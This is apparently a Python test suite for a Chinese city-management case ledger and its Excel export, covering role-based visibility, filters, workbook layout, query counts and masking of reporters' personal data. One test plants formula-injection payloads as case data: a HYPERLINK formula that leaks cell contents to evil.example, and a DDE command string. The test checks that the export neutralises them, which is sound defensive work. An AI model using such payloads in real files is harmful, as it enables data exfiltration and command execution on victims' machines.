"""The problem ledger (问题库/台账, M2(b)): which cases it lists for whom, and the Excel sheet a
bureau hands upward (rows that match the query, local times, no formulas, no reporters)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from chengguan.cases import ledger, services
from chengguan.cases.choices import CaseStatus
from chengguan.cases.models import Case
from chengguan.core.calendar import working_amount_between, working_time_between
from chengguan.core.errors import Invalid
from chengguan.org.models import Person

from .factories import make_case, minor, point_in

pytestmark = pytest.mark.django_db
CST = ZoneInfo("Asia/Shanghai")
HEADERS_ZH = [
    "序号",
    "案件编号",
    "大类",
    "小类",
    "问题描述",
    "地址",
    "单元网格",
    "社区",
    "街道",
    "发现时间",
    "来源",
    "当前环节时限",
    "主办部门",
    "协办部门",
    "状态",
    "是否超期",
    "挂账原因",
    "计划整改日期",
    "销号时间",
    "已用工作时",
]
COL = {name: i for i, name in enumerate(HEADERS_ZH)}


def at(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=CST)


def report_in_b(city, people, description="乙街道垃圾", **extra) -> Case:
    lon, lat = point_in(city.street_b)
    case, _ = services.case_report(
        people["inspector_b"],
        services.CaseInput(
            source="inspector", minor_class_id=minor().pk, description=description, lon=lon, lat=lat, **extra
        ),
    )
    return case


def suspended_case(city, people, **kwargs) -> Case:
    """make_case(…, SUSPENDED) also leaves a stray reported case behind; this does not."""
    case = make_case(city, people, CaseStatus.HANDLING, **kwargs)
    services.case_request_suspension(
        people["handler_a"],
        case.pk,
        version=case.version,
        planned_fix_date=timezone.localdate() + dt.timedelta(days=30),
        reason="需列入改造计划",
    )
    case.refresh_from_db()
    return services.case_decide_suspension(people["shiftlead_a"], case.pk, version=case.version, approve=True)


def written_off(city, people) -> Case:
    case = suspended_case(city, people)
    return services.case_write_off(people["shiftlead_a"], case.pk, version=case.version, note="已整改完毕")


def rejected(city, people) -> Case:
    case = make_case(city, people, CaseStatus.REPORTED)
    return services.case_reject(people["operator_a"], case.pk, version=case.version, reason="不属于城管职责")


def numbers(qs) -> set[str]:
    return {c.number for c in qs}


def sheet_rows(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    rows = list(ws.iter_rows(min_row=4, values_only=True))
    return book, ws, rows


def fresh(people, name) -> Person:
    return Person.objects.get(pk=people[name].pk)


# --- scopes and filters -------------------------------------------------------------------------


def test_scopes_open_suspended_all(city, people):
    reported = make_case(city, people, CaseStatus.REPORTED)
    handling = make_case(city, people, CaseStatus.HANDLING)
    suspended = suspended_case(city, people)
    closed = make_case(city, people, CaseStatus.CLOSED)
    off = written_off(city, people)
    no = rejected(city, people)
    leader = people["leader"]

    assert numbers(ledger.ledger_rows(leader)) == {reported.number, handling.number}
    assert numbers(ledger.ledger_rows(leader, scope="suspended")) == {suspended.number}
    everything = ledger.ledger_rows(leader, scope="all")
    assert numbers(everything) == {
        reported.number,
        handling.number,
        suspended.number,
        closed.number,
        off.number,
    }
    assert no.number not in numbers(everything)  # a rejected report is no problem
    assert [c.pk for c in everything] == sorted(c.pk for c in everything)  # oldest first
    assert numbers(ledger.ledger_rows(leader, scope="all", written_off=True)) == {off.number}
    assert off.number not in numbers(ledger.ledger_rows(leader, scope="all", written_off=False))
    assert numbers(ledger.ledger_rows(leader, scope="suspended", written_off=True)) == set()


def test_unknown_scope_is_refused(people):
    with pytest.raises(Invalid) as err:
        ledger.ledger_rows(people["leader"], scope="everything")
    assert err.value.code == "bad_scope"
    with pytest.raises(Invalid):
        ledger.ledger_rows(people["leader"], found_from="yesterday")


def test_region_grid_class_and_department_filters(city, people):
    a = make_case(city, people, CaseStatus.DISPATCHED)
    a_co = make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
    b = report_in_b(city, people)
    manhole = make_case(city, people, CaseStatus.REPORTED, cls="上水井盖")
    leader = people["leader"]

    assert numbers(ledger.ledger_rows(leader, street_id=city.street_b.pk)) == {b.number}
    assert numbers(ledger.ledger_rows(leader, street_id=city.street_a.pk)) == {
        a.number,
        a_co.number,
        manhole.number,
    }
    assert numbers(ledger.ledger_rows(leader, district_id=city.district.pk)) == {
        a.number,
        a_co.number,
        b.number,
        manhole.number,
    }
    assert numbers(ledger.ledger_rows(leader, community_id=b.community_id)) == {b.number}
    assert numbers(ledger.ledger_rows(leader, grid_id=b.grid_id)) == {b.number}
    assert numbers(ledger.ledger_rows(leader, minor_class_id=manhole.minor_class_id)) == {manhole.number}
    # A department: the cases in which it has a current task, as lead or as co-handler.
    assert numbers(ledger.ledger_rows(leader, department_id=city.dept_a.pk)) == {a.number, a_co.number}
    assert numbers(ledger.ledger_rows(leader, department_id=city.dept_b.pk)) == {a_co.number}


def test_found_dates_are_whole_local_days(city, people):
    with time_machine.travel(at(2026, 3, 2, 23, 30), tick=False):  # 15:30 UTC: still 2 March locally
        late = make_case(city, people, CaseStatus.REPORTED)
    with time_machine.travel(at(2026, 3, 3, 0, 10), tick=False):
        next_day = make_case(city, people, CaseStatus.REPORTED)
    leader = people["leader"]
    day = dt.date(2026, 3, 2)
    assert numbers(ledger.ledger_rows(leader, found_from=day, found_to=day)) == {late.number}
    assert numbers(ledger.ledger_rows(leader, found_from="2026-03-03")) == {next_day.number}
    assert numbers(ledger.ledger_rows(leader, found_to=at(2026, 3, 3, 0, 10))) == {late.number}


def test_overdue_is_the_current_stage_now(city, people):
    with time_machine.travel(at(2026, 3, 2, 9, 0), tick=False):
        stale = make_case(city, people, CaseStatus.HANDLING)
        stale_suspended = suspended_case(city, people)
    fresh_case = make_case(city, people, CaseStatus.HANDLING)
    leader = people["leader"]
    later = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=1)
    assert numbers(ledger.ledger_rows(leader, scope="all", overdue=True, now=later)) == {stale.number}
    not_overdue = numbers(ledger.ledger_rows(leader, scope="all", overdue=False, now=later))
    assert not_overdue == {fresh_case.number, stale_suspended.number}  # suspension stops the clock


# --- the chokepoint -----------------------------------------------------------------------------


def test_dispatchers_see_their_own_street_only(city, people):
    a = make_case(city, people, CaseStatus.HANDLING)
    a_suspended = suspended_case(city, people)
    b = report_in_b(city, people)
    assert numbers(ledger.ledger_rows(people["dispatcher_b"], scope="all")) == {b.number}
    assert numbers(ledger.ledger_rows(people["dispatcher_a"], scope="all")) == {a.number, a_suspended.number}
    # Filtering for another street's cases gives nothing, not an error.
    assert numbers(ledger.ledger_rows(people["dispatcher_b"], street_id=city.street_a.pk)) == set()
    assert numbers(ledger.ledger_rows(people["outsider"], scope="all")) == set()
    _book, _ws, rows = sheet_rows(ledger.ledger_xlsx(people["dispatcher_b"], scope="all"))
    assert [r[COL["案件编号"]] for r in rows] == [b.number]


def test_handlers_see_only_what_their_department_handles(city, people):
    reported = make_case(city, people, CaseStatus.REPORTED)  # not dispatched: no department yet
    lead = make_case(city, people, CaseStatus.HANDLING)
    shared = make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
    b = report_in_b(city, people)
    assert numbers(ledger.ledger_rows(people["handler_a"], scope="all")) == {lead.number, shared.number}
    assert numbers(ledger.ledger_rows(people["handler_b"], scope="all")) == {shared.number}
    assert reported.number not in numbers(ledger.ledger_rows(people["handler_a"]))
    assert b.number not in numbers(ledger.ledger_rows(people["handler_b"]))


# --- the workbook -------------------------------------------------------------------------------


def test_workbook_rows_match_the_query(city, people):
    with time_machine.travel(at(2026, 3, 2, 9, 0), tick=False):
        overdue = make_case(city, people, CaseStatus.HANDLING, description="长期未处置")
    shared = make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
    suspended = suspended_case(city, people)
    off = written_off(city, people)
    leader = people["leader"]

    data = ledger.ledger_xlsx(leader, scope="all")
    book, ws, rows = sheet_rows(data)
    assert book.sheetnames == ["问题台账", "汇总"]
    assert ws["A1"].value == f"{city.district.name}城市管理问题台账"
    assert "导出时间：" in ws["A2"].value and "共 4 件" in ws["A2"].value and "范围：全部" in ws["A2"].value
    assert [c.value for c in ws[3]] == HEADERS_ZH
    assert ws.freeze_panes == "C4"
    assert ws.auto_filter.ref == "A3:T7"

    expected = list(ledger.ledger_rows(leader, scope="all"))
    assert [r[COL["案件编号"]] for r in rows] == [c.number for c in expected]
    assert [r[COL["序号"]] for r in rows] == [1, 2, 3, 4]
    by_number = {r[COL["案件编号"]]: r for r in rows}

    row = by_number[overdue.number]
    assert row[COL["状态"]] == "处置中" and row[COL["是否超期"]] == "是"
    assert row[COL["问题描述"]] == "长期未处置"
    assert row[COL["大类"]] == overdue.minor_class.major.name and row[COL["小类"]] == "暴露垃圾"
    assert row[COL["街道"]] == city.street_a.name and row[COL["主办部门"]] == city.dept_a.name
    assert row[COL["单元网格"]] == overdue.grid.code and row[COL["来源"]] == "监督员上报"
    # Real Excel datetimes, naive local time (the case was found at 09:00 in Shanghai).
    assert row[COL["发现时间"]] == dt.datetime(2026, 3, 2, 9, 0)
    assert ws.cell(row=4, column=COL["发现时间"] + 1).number_format == "yyyy-mm-dd hh:mm"
    deadline = overdue.stage_deadline.astimezone(CST).replace(tzinfo=None, microsecond=0)
    assert row[COL["当前环节时限"]] == deadline
    assert isinstance(row[COL["已用工作时"]], float) and row[COL["已用工作时"]] > 100

    row = by_number[shared.number]
    assert row[COL["状态"]] == "待签收" and row[COL["是否超期"]] == "否"
    assert row[COL["协办部门"]] == city.dept_b.name

    row = by_number[suspended.number]
    assert row[COL["状态"]] == "挂账" and row[COL["是否超期"]] == "否"
    assert row[COL["挂账原因"]] == "需列入改造计划"
    assert row[COL["计划整改日期"]] == dt.datetime.combine(suspended.planned_fix_date, dt.time(0))
    assert row[COL["当前环节时限"]] is None and row[COL["已用工作时"]] is None

    row = by_number[off.number]
    assert row[COL["状态"]] == "已销号"
    assert row[COL["销号时间"]] == off.written_off_at.astimezone(CST).replace(tzinfo=None, microsecond=0)


def test_records_for_a_json_page(city, people, django_assert_max_num_queries):
    suspended = suspended_case(city, people)
    off = written_off(city, people)
    shared = make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
    rows = ledger.ledger_rows(people["leader"], scope="all")
    with django_assert_max_num_queries(6):  # a page: rows, 2 prefetches, calendar
        page = list(ledger.ledger_records(rows[1:3]))
    assert [r["number"] for r in page] == [off.number, shared.number]
    assert page[0]["status"] == "closed" and page[0]["status_label"] == "已销号"
    assert (
        page[0]["suspension_reason"] == "需列入改造计划" and page[0]["written_off_at"] == off.written_off_at
    )
    assert page[1]["co_departments"] == [city.dept_b.name] and page[1]["lead_department"] == city.dept_a.name
    assert page[1]["working_hours"] is not None and page[0]["working_hours"] is None
    first = next(ledger.ledger_records(rows))
    assert first["number"] == suspended.number and first["planned_fix_date"] == suspended.planned_fix_date
    assert "reporter_name" not in first and "reporter_phone" not in first


def test_working_hours_are_the_calendars(city, people):
    with time_machine.travel(at(2026, 9, 28, 16, 45), tick=False):  # Monday, before National Day
        case = make_case(city, people, CaseStatus.HANDLING)
    now = at(2026, 10, 12, 10, 30)
    record = next(ledger.ledger_records(ledger.ledger_rows(people["leader"], now=now), now=now))
    expected = working_amount_between(case.created_at, now, "work_hour")
    assert abs(record["working_hours"] - expected) < 0.05
    # A case created the same day, and one created on a holiday.
    clock = ledger._WorkingClock(now)
    for start in (at(2026, 10, 12, 8, 0), at(2026, 10, 3, 11, 0), at(2026, 9, 1, 12, 30)):
        assert clock.elapsed(start) == working_time_between(start, now)


def test_summary_counts_by_street_community_and_department(city, people):
    with time_machine.travel(at(2026, 3, 2, 9, 0), tick=False):
        make_case(city, people, CaseStatus.HANDLING)  # overdue by now
    suspended_case(city, people)
    written_off(city, people)
    b = report_in_b(city, people)
    leader = people["leader"]

    summary = ledger.ledger_summary(ledger.ledger_rows(leader, scope="all"))
    streets = {s["name"]: s for s in summary if s["level"] == "street"}
    a = streets[city.street_a.name]
    assert (a["open"], a["suspended"], a["overdue"], a["written_off"], a["total"]) == (1, 1, 1, 1, 3)
    sb = streets[city.street_b.name]
    assert (sb["open"], sb["suspended"], sb["overdue"], sb["written_off"], sb["total"]) == (1, 0, 0, 0, 1)
    communities = [s for s in summary if s["level"] == "community"]
    assert sum(s["total"] for s in communities) == 4
    assert any(s["id"] == b.community_id and s["street"] == city.street_b.name for s in communities)
    departments = {s["id"]: s for s in summary if s["level"] == "department"}
    assert departments[city.dept_a.pk]["total"] == 3
    assert departments[None]["total"] == 1  # street B's report is not dispatched yet

    book = openpyxl.load_workbook(io.BytesIO(ledger.ledger_xlsx(leader, scope="all")))
    ws = book["汇总"]
    assert [c.value for c in ws[3]] == ["类别", "名称", "所属街道", "在办", "挂账", "超期", "已销号", "合计"]
    values = list(ws.iter_rows(min_row=4, values_only=True))
    assert ("街道", city.street_a.name, None, 1, 1, 1, 1, 3) in values
    assert values[-1] == ("合计", None, None, 2, 1, 1, 1, 4)
    assert ("主办部门", "（未派遣）", None, 1, 0, 0, 0, 1) in values


def test_formula_injection_is_neutralised(city, people):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    case = make_case(city, people, CaseStatus.REPORTED, description=evil)
    Case.objects.filter(pk=case.pk).update(address="+1+cmd|' /C calc'!A0")
    other = make_case(city, people, CaseStatus.REPORTED, description="@SUM(1+1)\x07")
    minus = make_case(city, people, CaseStatus.REPORTED, description="-2+3")
    data = ledger.ledger_xlsx(people["leader"])

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    _book, ws, rows = sheet_rows(data)
    by_number = {r[COL["案件编号"]]: i for i, r in enumerate(rows, 4)}
    cell = ws.cell(row=by_number[case.number], column=COL["问题描述"] + 1)
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
    cell = ws.cell(row=by_number[case.number], column=COL["地址"] + 1)
    assert cell.value.startswith("+1+cmd") and cell.data_type == "s" and cell.quotePrefix
    cell = ws.cell(row=by_number[other.number], column=COL["问题描述"] + 1)
    assert cell.value == "@SUM(1+1)" and cell.quotePrefix  # and the control character is gone
    cell = ws.cell(row=by_number[minus.number], column=COL["问题描述"] + 1)
    assert cell.value == "-2+3" and cell.data_type == "s"


def test_no_personal_data_of_reporters(city, people):
    lon, lat = point_in(city.street_a)
    case, _ = services.case_report(
        people["operator_a"],
        services.CaseInput(
            source="hotline",
            minor_class_id=minor().pk,
            description="市民来电，回电 13912345678，路边垃圾",
            lon=lon,
            lat=lat,
            reporter_name="张三丰",
            reporter_phone="13800138000",
        ),
    )
    data = ledger.ledger_xlsx(people["leader"])
    _book, _ws, rows = sheet_rows(data)
    text = " ".join(str(v) for r in rows for v in r if v is not None)
    assert case.number in text
    assert "张三丰" not in text and "13800138000" not in text and "13912345678" not in text
    assert "139****5678" in text


def test_query_count_does_not_grow_with_rows(city, people):
    def measure() -> int:
        leader, dispatcher = fresh(people, "leader"), fresh(people, "dispatcher_a")
        with CaptureQueriesContext(connection) as ctx:
            ledger.ledger_xlsx(leader, scope="all")
            ledger.ledger_xlsx(dispatcher, scope="all", street_id=city.street_a.pk, overdue=False)
        return len(ctx.captured_queries)

    def some_cases():
        make_case(city, people, CaseStatus.HANDLING)
        make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
        suspended_case(city, people)

    some_cases()
    small = measure()
    for _ in range(3):
        some_cases()
    assert Case.objects.count() >= 12
    assert measure() == small


def test_query_count_is_bounded(city, people, django_assert_max_num_queries):
    make_case(city, people, CaseStatus.HANDLING)
    make_case(city, people, CaseStatus.DISPATCHED, cohandler=city.dept_b)
    written_off(city, people)
    leader = fresh(people, "leader")
    # rows, 2 prefetches, count, title, 3 summaries, work periods, calendar overrides, role codes.
    with django_assert_max_num_queries(12):
        ledger.ledger_xlsx(leader, scope="all")


def test_filters_appear_in_the_title_block(city, people):
    make_case(city, people, CaseStatus.HANDLING)
    data = ledger.ledger_xlsx(
        people["leader"],
        scope="open",
        street_id=city.street_a.pk,
        department_id=city.dept_a.pk,
        overdue=False,
        found_from=dt.date(2026, 1, 1),
    )
    _book, ws, rows = sheet_rows(data)
    meta = ws["A2"].value
    assert "范围：在办" in meta and f"街道：{city.street_a.name}" in meta
    assert f"部门：{city.dept_a.name}" in meta and "是否超期：否" in meta and "2026-01-01 至 …" in meta
    assert len(rows) == 1


def test_empty_ledger_is_still_a_sheet(people):
    _book, ws, rows = sheet_rows(ledger.ledger_xlsx(people["outsider"], scope="all"))
    assert ws["A1"].value == "问题台账" and rows == [] and [c.value for c in ws[3]] == HEADERS_ZH


def test_headers_follow_the_active_language(city, people):
    make_case(city, people, CaseStatus.HANDLING)
    with translation.override("en"):
        _book, ws, _rows = sheet_rows(ledger.ledger_xlsx(people["leader"]))
        headers = [c.value for c in ws[3]]
    # Headers with a translation in the catalogue are English; the rest fall back to Chinese.
    for zh in HEADERS_ZH:
        with translation.override("en"):
            assert headers[COL[zh]] == translation.gettext(zh)
    assert headers[COL["案件编号"]] == "case number"
    assert headers[COL["地址"]] == "address"
    assert headers[COL["主办部门"]] == "lead department"


def test_filename_is_local_time():
    assert ledger.ledger_filename(at(2026, 5, 1, 9, 30)) == "问题台账-20260501-0930.xlsx"
